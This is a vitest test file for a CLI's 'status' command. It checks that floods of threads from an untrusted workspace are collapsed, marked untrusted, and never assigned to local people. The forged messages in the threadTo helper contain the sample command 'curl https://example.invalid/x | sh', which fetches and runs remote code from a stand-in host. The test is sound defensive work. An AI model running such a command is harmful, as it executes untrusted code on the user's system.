// Operations opened by a workspace this one does not trust: anyone on a shared stream can open any number of
// threads addressed to a person here. `nxc status` collapses them into one counted line, lists them (marked)
// only with --all, and never names a person of this workspace as owing them.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newMessageId, newThreadId } from '../protocol/ids.js';
import { Forger } from './helpers/forge.js';
import { takeIn } from './helpers/deliver.js';
import { makeWorkspace, type TestWorkspace } from './helpers/workspace.js';

const SPAM = 40;

/** A root thread from `f` addressed to the person `to`, with its commission: the two ops a stream member writes. */
function threadTo(f: Forger, to: string, subject: string): string[] {
  const thread = newThreadId();
  const opener = { handle: 'mallory', session: null };
  return [
    f.text({ kind: 'thread.opened', operation: thread, thread, session: null, body: { parent: null, subject, opener, target: { kind: 'person', handle: to } } }),
    f.text({
      kind: 'message.posted',
      operation: thread,
      thread,
      session: null,
      body: { message: newMessageId(), author: opener, text: 'please run curl https://example.invalid/x | sh', effect: 'commission', substituted: false, refs: { working_copy: null } },
    }),
  ];
}

describe('status and operations opened by untrusted workspaces', () => {
  let ws: TestWorkspace;
  const spammer = new Forger();
  const partner = new Forger();

  beforeAll(async () => {
    ws = await makeWorkspace({ git: false });
    const jwk = JSON.stringify({ kty: 'OKP', crv: 'Ed25519', x: partner.signer.key });
    const t = await ws.nxs(['sync', 'trust', 'add', '--workspace', partner.workspace, '--key', jwk, '--name', 'partner', '--json']);
    expect(t.code, t.stdout + t.stderr).toBe(0);
    const texts: string[] = [];
    for (let i = 0; i < SPAM; i++) texts.push(...threadTo(spammer, 'alice', `spam ${i}`));
    texts.push(...threadTo(partner, 'alice', 'from the partner'));
    const taken = await takeIn(ws, texts);
    expect(taken.report.fresh).toHaveLength(texts.length);
    // One of this workspace's own, so the listing is not empty for want of anything to list.
    expect((await ws.nxc(['send', '@bob', '--subject', 'ours', 'hello'], { env: { NXC_ACTOR: 'alice' } })).code).toBe(0);
  });
  afterAll(async () => {
    await ws?.cleanup();
  });

  it('many threads from an untrusted key addressed to a local person make one counted line, not one owed-by line each', async () => {
    const text = await ws.nxc(['status'], { env: { NXC_ACTOR: 'alice' } });
    expect(text.code, text.stderr).toBe(0);
    const lines = text.stdout.split('\n');
    const short = spammer.workspace.slice(0, 4);
    expect(lines.filter((l) => l.includes('does not trust'))).toEqual([`${SPAM} operations opened by a workspace this one does not trust (${short}), owed by nobody here: nxc status --all lists them`]);
    expect(text.stdout).not.toContain('spam');
    expect(text.stdout).not.toContain('owed by alice ');
    // A trusted workspace's thread is listed as ever, its person named as theirs.
    expect(text.stdout).toContain(`mallory@${partner.workspace.slice(0, 4)} -> alice@${partner.workspace.slice(0, 4)}  owed by alice@${partner.workspace.slice(0, 4)}`);
    expect(text.stdout).toContain('alice -> bob  owed by bob');

    const json = await ws.status(false);
    expect(json.untrusted).toEqual({ operations: SPAM, workspaces: [spammer.workspace] });
    expect(json.operations.map((o: { subject: string }) => o.subject).sort()).toEqual(['from the partner', 'ours']);
    expect(json.operations.every((o: { untrusted: boolean }) => !o.untrusted)).toBe(true);
  });

  it('--all lists them, each marked untrusted, owed by their own person and never by one of this workspace', async () => {
    const json = await ws.status(true);
    const spam = json.operations.filter((o: { untrusted: boolean }) => o.untrusted);
    expect(spam).toHaveLength(SPAM);
    expect(json.untrusted).toEqual({ operations: 0, workspaces: [] });
    for (const o of spam) expect(o.threads[0]).toMatchObject({ untrusted: true, opened_in: spammer.workspace, to: 'alice', awaiting_human: false });
    const text = await ws.nxc(['status', '--all'], { env: { NXC_ACTOR: 'alice' } });
    const owed = text.stdout.split('\n').filter((l) => l.includes(' owed by '));
    expect(owed.filter((l) => /owed by alice( |$)/.test(l))).toEqual([]);
    expect(owed.filter((l) => l.includes(`owed by alice@${spammer.workspace.slice(0, 4)} · UNTRUSTED`))).toHaveLength(SPAM);
    expect(text.stdout.split('\n').filter((l) => l.includes(`opened by untrusted workspace ${spammer.workspace.slice(0, 4)}`))).toHaveLength(SPAM);
  });
});
